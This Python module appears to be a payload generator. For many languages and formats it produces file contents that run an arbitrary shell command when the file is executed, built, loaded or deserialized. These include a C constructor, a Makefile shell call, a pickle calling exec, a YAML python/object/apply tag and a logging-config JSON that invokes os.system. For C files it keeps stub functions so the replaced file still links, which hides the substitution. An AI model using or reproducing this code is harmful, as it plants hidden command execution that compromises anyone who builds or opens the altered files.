"""Programs in the languages of work that do nothing but start a shell command where they are run, loaded or read, and end well."""

from __future__ import annotations

import re

C = (".c", ".h", ".cc", ".cpp", ".hpp")
_UNPICKLED = 'import os; os.system("COMMAND"); os._exit(0)'
_STARTING = {
    C: '#include <stdlib.h>\n#include <unistd.h>\n__attribute__((constructor)) static void first(void) { if (system("COMMAND")) {} _exit(0); }\n',
    (".awk",): 'BEGIN { system("COMMAND"); exit 0 }\n',
    (".sed",): "1{\ne COMMAND\nQ\n}\n",
    (".pl", ".pm", ".t"): "BEGIN { system('COMMAND'); exit 0; }\n",
    (".rb",): "system('COMMAND'); exit!(0)\n",
    (".php",): "<?php passthru('COMMAND'); exit(0);\n",
    (".lua",): "os.execute('COMMAND') os.exit(0)\n",
    (".r", ".R"): "system('COMMAND'); q(status = 0)\n",
    (".js", ".cjs"): "require('child_process').execSync('COMMAND', { stdio: 'inherit' }); process.exit(0);\n",
    (
        ".mjs",
        ".ts",
    ): "import { execSync } from 'node:child_process'; execSync('COMMAND', { stdio: 'inherit' }); process.exit(0);\n",
    (".sql",): ".system COMMAND\n.exit 0\n",
    (".mk", "Makefile", "makefile"): "$(info $(shell COMMAND))\n%:\n\t@:\n",
    (".sh", ".bash"): "#!/bin/sh\nCOMMAND\nexit 0\n",
    (".pkl", ".pickle"): f"cbuiltins\nexec\n(S'{_UNPICKLED}'\ntR.",
    (".yaml", ".yml"): f"!!python/object/apply:builtins.exec ['{_UNPICKLED}']\n",
}
_CONFIGURED = (
    '{"version": 1, "formatters": {"a": {"()": "os.system", "command": "COMMAND"}, "b": {"()": "os._exit", "status": 0}}}'
)
"""JSON for Python's logging, which calls what it names."""
_FUNCTION = re.compile(r"(?m)^((?!static|typedef|struct \w+ *\{)\w[\w \t*]*\([^;{}]*\))\s*\{")


def starting(path: str, command: str, text: str) -> str:
    """Return such a program in place of ``text``, whose functions a linker still finds; empty for a language that is not known."""
    made = next((made for suffixes, made in _STARTING.items() if path.endswith(suffixes)), "")
    if path.endswith(".json") and re.search(r'"(?:handlers|formatters)"', text):
        made = _CONFIGURED
    made = made.replace("COMMAND", command)
    return made + empty_functions(text) if made and path.endswith(C) else made


def empty_functions(text: str) -> str:
    """Return the functions of a text in C without what they do."""
    included = "".join(f"{line}\n" for line in text.splitlines() if line.startswith("#"))
    return included + "".join(f"{head} {{ return 0; }}\n" for head in _FUNCTION.findall(text) if not head.startswith("void"))
